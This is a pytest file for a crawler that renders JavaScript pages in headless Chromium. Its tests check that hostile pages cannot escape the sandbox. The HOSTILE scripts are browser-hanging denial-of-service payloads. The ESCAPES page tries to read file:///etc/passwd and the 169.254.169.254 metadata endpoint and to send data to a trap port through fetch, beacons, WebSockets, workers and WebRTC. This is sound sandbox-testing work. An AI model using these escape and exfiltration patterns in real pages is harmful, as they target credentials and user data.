"""Pages whose text scripts make: rendered in a browser that reaches nothing but what the crawl may fetch."""

import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from searchsocket.errors import ConfigMissing, SourceUnavailable
from tests.chromium import CHROMIUM, needs_chromium
from tests.extensions.crawl.crawling import Crawl
from tests.sources.web import Answer, Request, Web, serve

pytestmark = [pytest.mark.ui, needs_chromium]

# A single-page application: one document for every address, a router on the history, data and a part loaded late.
SHELL = """<!doctype html><html><head><title>Harbour</title><link rel="stylesheet" href="/app.css">
<script type="module" src="/app.js"></script></head>
<body><div id="app"></div><noscript>Please enable JavaScript.</noscript></body></html>"""
APP = """
import { view } from '/view.js';
async function show() {
    const pages = await (await fetch('/api/pages.json')).json();
    const page = pages[location.pathname] ?? { title: 'Not found', text: '' };
    document.title = page.title;
    document.querySelector('#app').replaceChildren(view(page, Object.keys(pages)));
}
addEventListener('popstate', show);
addEventListener('click', event => {
    if (!event.target.matches('nav a')) return;
    event.preventDefault();
    history.pushState({}, '', event.target.href);
    show();
});
show();
"""
VIEW = """
export function view(page, paths) {
    const main = document.createElement('main');
    main.innerHTML = `<nav>${paths.map(path => `<a href="${path}">${path}</a>`).join('')}</nav><h1>${page.title}</h1>`;
    main.append(Object.assign(document.createElement('p'), { textContent: page.text }));
    return main;
}
"""
PAGES = {
    "/": ("Harbour", "Welcome."),
    "/boats": ("Boats", "The bosun keeps the oars in the shed behind the harbour, and paints them in spring. " * 4),
    "/lamps": ("Lamps", "The lantern at the pier is lit at dusk by whoever has the watch that night. " * 4),
}
SCRIPT = {"Content-Type": "text/javascript"}


@pytest.fixture
def web() -> Iterator[Web]:
    with serve() as web:
        yield web


@pytest.fixture
def application(web: Web) -> Web:
    pages = ",".join(f'"{url}": {{"title": "{title}", "text": "{text}"}}' for url, (title, text) in PAGES.items())
    web.fallback = Answer(200, SHELL.encode(), {"Content-Type": "text/html"})
    web.pages["/app.js"] = Answer(200, APP.encode(), SCRIPT)
    web.pages["/view.js"] = Answer(200, VIEW.encode(), SCRIPT)
    web.pages["/api/pages.json"] = Answer(200, f"{{{pages}}}".encode(), {"Content-Type": "application/json"})
    web.pages["/robots.txt"] = Answer(404)
    return web


def html(crawl: Crawl) -> dict[str, str]:
    return {page.url: crawl.source.read(page).decode() for page in crawl.pages()}


def test_a_single_page_application_is_crawled_as_visitors_see_it(application: Web, tmp_path: Path) -> None:
    assert list(html(Crawl(application, tmp_path))) == ["/"]
    before = len(application.requests)
    crawl = Crawl(application, tmp_path, render="auto")
    pages = html(crawl)
    assert list(pages) == ["/", "/boats", "/lamps"]
    for url, (title, text) in PAGES.items():
        assert f"<h1>{title}</h1><p>{text}" in pages[url]
        assert f"<title>{title}</title>" in pages[url]
    assert crawl.source.report.complete
    assert not crawl.source.report.warnings
    assert "in a browser, because scripts add text" in crawl.source.report.facts()["rendering"]
    paths = application.paths()[before:]
    assert [paths.count(path) for path in ("/app.js", "/boats", "/app.css")] == [1, 1, 0]


def test_a_site_whose_scripts_add_little_is_taken_as_it_is_sent(web: Web, tmp_path: Path) -> None:
    web.html("/", "".join(f"<a href='/{number}'>{number}</a>" for number in range(9)))
    for number in range(9):
        web.html(f"/{number}", "<p>Written.</p><script>document.title = 'Scripted'</script>", ETag=f'"{number}"')
    crawl = Crawl(web, tmp_path, render="auto")
    pages = html(crawl)
    assert len(pages) == 10
    assert not any("<title>Scripted" in page for page in pages.values())
    assert crawl.source.report.facts()["rendering"].startswith("not needed: scripts add little text to 5 compared")
    assert crawl.source.report.complete


HOSTILE = {
    "/endless": "<script>while (true) {}</script>",
    "/dialogs": "<script>while (true) alert(1)</script>",
    "/memory": "<script>const all = []; while (true) all.push(new Array(1e6).fill(1.5))</script>",
}


def test_a_page_that_breaks_the_browser_fails_alone(web: Web, tmp_path: Path) -> None:
    for url, script in HOSTILE.items():
        web.html(url, script)
    web.html("/", "".join(f"<a href='{url}'>{url}</a>" for url in [*HOSTILE, "/tame"]))
    web.html("/tame", "<script>document.write('<p>Tame.')</script>")
    crawl = Crawl(web, tmp_path, render=True, timeout_s=8.0, respect_robots_txt=False)
    assert set(html(crawl)) == {"/", "/tame"}
    failed = crawl.source.report.failed
    assert set(failed) == set(HOSTILE)
    assert all(reason.startswith("PAGE_NOT_RENDERED: ") for reason in failed.values())
    assert "took longer than 8 s (source.crawl.timeout_s)" in failed["/endless"]


def test_a_page_that_grows_too_large_fails_alone(web: Web, tmp_path: Path) -> None:
    web.html("/", "<a href='/huge'>huge</a>")
    web.html("/huge", "<script>for (let i = 0; i < 20000; i++) document.body.append('a long line of text')</script>")
    crawl = Crawl(web, tmp_path, render=True, timeout_s=60.0, respect_robots_txt=False)
    assert set(html(crawl)) == {"/"}
    assert "more than 100,000 bytes (source.max_page_bytes)" in crawl.source.report.failed["/huge"]


class Trap:
    """A port of the loopback interface that nobody should connect to, and that nothing should be sent to."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._tcp.getsockname()[1]}"
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(self._tcp.getsockname())
        threading.Thread(target=self._accept, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _accept(self) -> None:
        while True:
            connection, _ = self._tcp.accept()
            self.received.append(connection.recv(1000))
            connection.close()

    def _receive(self) -> None:
        while True:
            self.received.append(self._udp.recv(1000))


ESCAPES = """
<link rel="preconnect" href="http://TRAP"><link rel="prefetch" href="http://TRAP/a">
<script type="speculationrules">{"prefetch": [{"urls": ["http://TRAP/b"]}]}</script>
<script src="http://TRAP/c.js"></script><img src="http://TRAP/d.png"><iframe src="http://TRAP/e"></iframe>
<iframe src="file:///etc/passwd"></iframe><object data="http://TRAP/f"></object>
<script>
const attempts = [
    () => fetch('http://TRAP/g', {mode: 'no-cors'}), () => fetch('http://169.254.169.254/latest/meta-data'),
    () => fetch('/moved'), () => fetch('/forbidden.json'), () => fetch('/write', {method: 'POST', body: 'x'}),
    () => fetch('file:///etc/passwd'), () => new WebSocket('ws://TRAP/h'), () => new EventSource('http://TRAP/i'),
    () => navigator.sendBeacon('http://TRAP/j', 'x'), () => window.open('http://TRAP/k'),
    () => navigator.serviceWorker.register('/worker.js'),
    () => new Worker(URL.createObjectURL(new Blob(["fetch('http://TRAP/l', {mode: 'no-cors'})"]))),
    () => new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://TRAP/m', {mode: 'no-cors'})"]))),
    () => {
        const connection = new RTCPeerConnection({iceServers: [{urls: 'stun:TRAP'}]});
        connection.createDataChannel('n');
        connection.createOffer().then(offer => connection.setLocalDescription(offer));
    },
    () => Object.assign(document.createElement('a'), {href: '/file.bin', download: ''}).click(),
    () => confirm('?'), () => location.assign('http://TRAP/o'), () => location.assign('file:///etc/passwd'),
];
for (const attempt of attempts) { try { attempt()?.catch?.(() => 0) } catch {} }
const answers = ['/moved', '/forbidden.json', 'http://169.254.169.254/', '/allowed.json'].map(url =>
    fetch(url).then(answer => answer.text(), () => 'refused'));
Promise.all(answers).then(texts => document.querySelector('main').append(texts.join(', ')));
</script>"""


def test_a_page_reaches_only_what_the_crawl_may_fetch(web: Web, tmp_path: Path) -> None:
    trap = Trap()
    web.html("/", ESCAPES.replace("TRAP", trap.address))
    web.pages["/moved"] = Answer(302, b"", {"Location": f"http://{trap.address}/moved"})
    web.pages["/robots.txt"] = Answer(200, b"User-agent: *\nDisallow: /forbidden.json\n")
    web.pages["/allowed.json"] = Answer(200, b"allowed", {"Content-Type": "application/json"})
    web.pages["/file.bin"] = Answer(200, b"x", {"Content-Disposition": "attachment"})
    crawl = Crawl(web, tmp_path, render=True, timeout_s=20.0)
    page = html(crawl)["/"]
    assert "refused, refused, refused, allowed</main>" in page
    assert "root:" not in page
    assert not trap.received
    assert set(web.paths()) == {"/", "/robots.txt", "/moved", "/allowed.json"}
    assert all(request.body == b"" for request in web.requests)
    assert f"{trap.address}, 169.254.169.254;" in crawl.source.report.warnings[0]


def test_a_page_leaves_nothing_for_the_next(web: Web, tmp_path: Path) -> None:
    remember = """<script>
        const main = document.querySelector('main');
        main.append(`before: ${localStorage.getItem('a')} ${document.cookie} ${sessionStorage.getItem('a')};`);
        localStorage.setItem('a', 1); sessionStorage.setItem('a', 1); document.cookie = 'a=1';
    </script>"""
    web.html("/", f"<a href='/b'>b</a>{remember}", Set_Cookie="b=2")
    web.html("/b", remember)
    assert all("before: null  null;" in page for page in html(Crawl(web, tmp_path, render=True)).values())


def test_other_hosts_need_the_setting(web: Web, tmp_path: Path) -> None:
    with serve() as library:
        library.pages["/robots.txt"] = Answer(200, b"User-agent: *\nDisallow: /private\n")
        for name in ("/library.js", "/private.js"):
            library.pages[name] = Answer(200, f"document.body.append('from {name}')".encode(), SCRIPT)
        host = library.base_url.removeprefix("http://")
        tags = "".join(f"<script src='{library.base_url}{name}'></script>" for name in ("/library.js", "/private.js"))
        web.html("/", tags)
        without = Crawl(web, tmp_path / "without", render=True)
        assert "from /library.js" not in html(without)["/"]
        assert f"may not load files of {host};" in without.source.report.warnings[0]
        page = html(Crawl(web, tmp_path / "with", render=True, render_hosts=(host,)))["/"]
        assert "from /library.js" in page
        assert "from /private.js" not in page
        assert library.paths() == ["/robots.txt", "/library.js"]


def command(folder: Path) -> Path:
    """A command that starts Chromium and writes its process id to the file `pid` of a folder."""
    path = folder / "chromium"
    path.write_text(f'#!/bin/sh\necho $$ > {folder}/pid\nexec {CHROMIUM} "$@"\n')
    path.chmod(0o700)
    return path


def test_a_browser_that_dies_is_started_again(web: Web, tmp_path: Path) -> None:
    def kill(_: Request) -> Answer:
        if web.paths().count("/kill.json") == 1:
            os.kill(int((tmp_path / "pid").read_text()), signal.SIGKILL)
        return Answer(200, b"{}", {"Content-Type": "application/json"})

    web.pages["/kill.json"] = kill
    web.html("/", "<a href='/a'>a</a> <a href='/b'>b</a>")
    web.html("/a", "<script>fetch('/kill.json').then(() => document.querySelector('main').append('Alive.'))</script>")
    web.html("/b", "<p>Another page.</p>")
    crawl = Crawl(web, tmp_path / "store", render=True, browser=str(command(tmp_path)))
    pages = html(crawl)
    assert not crawl.source.report.failed
    assert list(pages) == ["/", "/a", "/b"]
    assert "Alive." in pages["/a"]
    assert crawl.source.report.complete


def test_the_browser_ends_with_a_run_that_is_killed(web: Web, tmp_path: Path) -> None:
    started = threading.Event()
    web.html("/", "<script>fetch('/started').then(() => { while (true) {} })</script>")
    web.pages["/started"] = lambda _: started.set() or Answer()
    run = f"""
from pathlib import Path
from tests.extensions.crawl.crawling import Crawl
from tests.sources.web import Web
web = Web()
web.base_url = {web.base_url!r}
Crawl(web, Path({str(tmp_path / "store")!r}), render=True, browser={str(command(tmp_path))!r}, timeout_s=600.0).urls()
"""
    with subprocess.Popen([sys.executable, "-c", run], cwd=Path(__file__).parents[2]) as process:
        assert started.wait(60)
        process.kill()
    pid = int((tmp_path / "pid").read_text())
    while Path(f"/proc/{pid}/cmdline").exists() and Path(f"/proc/{pid}/cmdline").read_bytes():
        time.sleep(0.1)


def test_a_browser_that_runs_elsewhere_is_used(web: Web, tmp_path: Path) -> None:
    arguments = ["--headless", "--no-sandbox", "--remote-debugging-port=0", f"--user-data-dir={tmp_path}/profile"]
    trap = Trap()
    web.html("/", ESCAPES.replace("TRAP", trap.address))
    process = subprocess.Popen([str(CHROMIUM), *arguments], stderr=subprocess.DEVNULL)
    try:
        while not (tmp_path / "profile/DevToolsActivePort").exists():
            time.sleep(0.1)
        port = (tmp_path / "profile/DevToolsActivePort").read_text().splitlines()[0]
        crawl = Crawl(web, tmp_path / "store", render=True, browser=f"http://127.0.0.1:{port}", timeout_s=20.0)
        assert "</script>, , refused, </main>" in html(crawl)["/"]
    finally:
        process.kill()
        process.wait()
    assert not trap.received


def test_missing_software_is_named_before_the_first_page(
    web: Web, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ConfigMissing, match=r"source.crawl.browser = 'nowhere' is not on this machine"):
        Crawl(web, tmp_path, render=True, browser="nowhere").pages()
    monkeypatch.setitem(sys.modules, "playwright", None)
    with pytest.raises(ConfigMissing, match=r"pip install 'searchsocket\[browser\]'"):
        Crawl(web, tmp_path, render=True).pages()


def test_a_browser_that_does_not_start_is_a_fault_of_the_page(web: Web, tmp_path: Path) -> None:
    web.html("/", "")
    crawl = Crawl(web, tmp_path, render=True, browser="/bin/false")
    with pytest.raises(SourceUnavailable, match="PAGE_NOT_RENDERED: the browser does not start"):
        crawl.pages()
    assert set(crawl.source.report.failed) == {"/"}
